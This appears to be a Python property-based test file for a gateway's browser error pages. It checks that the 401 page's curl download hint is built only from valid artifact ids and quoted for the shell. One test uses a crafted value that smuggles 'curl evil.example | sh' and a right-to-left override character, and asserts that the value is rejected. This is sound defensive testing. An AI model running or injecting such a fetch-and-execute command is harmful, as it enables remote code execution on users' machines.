"""The browser pages' hint (issue 33): the 401 page's ``curl`` command is built from a
valid artifact id alone and quoted for the shell, whatever a crafted link holds."""

from __future__ import annotations

import html
import shlex

from hypothesis import given
from hypothesis import strategies as st

from gateway.core.errors import AuthError, Gone, NotFound
from gateway.links.pages import curl_hint, download_link, error_page

BASE = "https://gw.example.com/prefix"
VALID = "A1b2_C3-d4E5f6G7h8"


def test_a_valid_id_makes_the_link() -> None:
    assert download_link(BASE, VALID) == f"{BASE}/v1/artifacts/{VALID}"
    assert download_link(BASE + "/", VALID) == f"{BASE}/v1/artifacts/{VALID}"


@given(st.text(max_size=80))
def test_anything_else_makes_no_link(text: str) -> None:
    link = download_link(BASE, text)
    ok = 16 <= len(text) <= 64 and all(c.isascii() and (c.isalnum() or c in "-_") for c in text)
    assert (link is not None) == ok
    if link is not None:
        assert link.isascii() and link.isprintable() and "'" not in link


@given(st.text(min_size=1, max_size=60))
def test_the_hint_is_one_argument_whatever_the_base(base: str) -> None:
    """Even a base URL with quotes or ``;`` (config refuses such) stays one argument."""
    link = f"{base}/v1/artifacts/{VALID}"
    assert shlex.split(curl_hint(link)) == [
        "curl",
        "-OJ",
        "-H",
        "Authorization: Bearer <your key>",
        link,
    ]


def test_the_page_shows_the_hint_only_with_a_link() -> None:
    err = AuthError("Sign in.", code="invalid_session")
    page = error_page(err, "", download_link(BASE, VALID))
    assert html.escape(curl_hint(f"{BASE}/v1/artifacts/{VALID}")) in page
    bare = error_page(err, "", None)
    assert "curl" not in bare and "Authorization: Bearer &lt;your key&gt;" in bare
    crafted = "x'; curl evil.example | sh; '\u202e"
    assert download_link(BASE, crafted) is None
    for other in (
        NotFound("No.", code="artifact_not_found"),
        Gone("Gone.", code="artifact_changed"),
    ):
        assert "curl" not in error_page(other, "", None)
